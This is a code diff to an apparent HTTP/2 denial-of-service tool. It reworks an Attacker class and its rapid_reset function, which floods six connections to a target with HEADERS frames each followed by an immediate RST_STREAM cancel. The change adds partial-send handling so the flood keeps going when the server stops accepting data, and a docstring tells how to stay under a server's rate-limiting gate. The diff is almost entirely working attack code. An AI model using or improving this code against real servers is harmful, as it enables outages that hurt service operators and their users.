@@ -99,13 +99,25 @@ class Attacker:
             return None
 
     def send(self, at, data):
-        """False when the connection was closed; it is opened again."""
+        """False when the connection was closed, or takes no more; it is opened again."""
+        return self.attempt(at, lambda connection: connection.sendall(data)) is not False
+
+    def pour(self, at, data):
+        """What is left of the data, because the connection takes no more now; False as send()."""
+        def send_part(connection):
+            try:
+                return data[connection.send(data):]
+            except TimeoutError:
+                return data
+        return self.attempt(at, send_part)
+
+    def attempt(self, at, use):
         try:
-            self.sockets[at].sendall(data)
+            result = use(self.sockets[at])
             while select.select([self.sockets[at]], [], [], 0)[0]:
                 if not self.sockets[at].recv(1 << 16):
                     raise OSError("closed")
-            return True
+            return result
         except (OSError, ValueError, AttributeError):
             if self.sockets[at] is not None:
                 self.sockets[at].close()
@@ -121,11 +133,17 @@ def until(end):
 
 
 def rapid_reset(target, end):
-    attacker, streams = Attacker(target, 6, PREFACE + SETTINGS), [1] * 6
+    """The gate lets a few of them through a second, and ends the connection after three: until then it stays, also when it takes no more."""
+    attacker, streams, rest = Attacker(target, 6, PREFACE + SETTINGS), [1] * 6, [b""] * 6
     for _ in until(end):
         for at in range(6):
-            data = b"".join(frame(1, 4, stream, BLOCK) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(streams[at], streams[at] + 400, 2))
-            streams[at] = streams[at] + 400 if attacker.send(at, data) else 1
+            if not rest[at]:
+                rest[at] = b"".join(frame(1, 4, stream, BLOCK) + frame(3, 0, stream, b"\0\0\0\x08") for stream in range(streams[at], streams[at] + 400, 2))
+                streams[at] += 400
+            left = attacker.pour(at, rest[at])
+            if left is False:
+                streams[at], left = 1, b""
+            rest[at] = left
 
 
 def continuation(target, end):
